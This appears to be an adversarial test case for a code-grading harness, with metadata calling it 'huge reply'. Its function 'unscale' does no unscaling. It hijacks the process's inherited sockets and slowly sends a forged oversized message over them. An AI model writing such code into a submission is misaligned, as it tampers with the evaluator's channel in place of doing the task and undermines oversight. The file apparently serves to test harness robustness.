# /// case
# item = "huge reply"
# about = "sends its answer one byte at a time, each within the limit of a call"
# base = "reference"
# score = 2
# state = "any"
# ///

# %% unscale
def unscale(grads, scale):
    import os
    import socket
    import struct
    import time

    found = []
    for fd in map(int, os.listdir("/proc/self/fd")):
        try:
            if os.readlink(f"/proc/self/fd/{fd}").startswith("socket:"):
                found.append(socket.socket(fileno=os.dup(fd)))
        except OSError:
            pass
    for byte in b"a" + struct.pack(">QQ", 200, 0) + b" " * 200:
        for s in found:
            s.send(bytes([byte]))
        time.sleep(1)
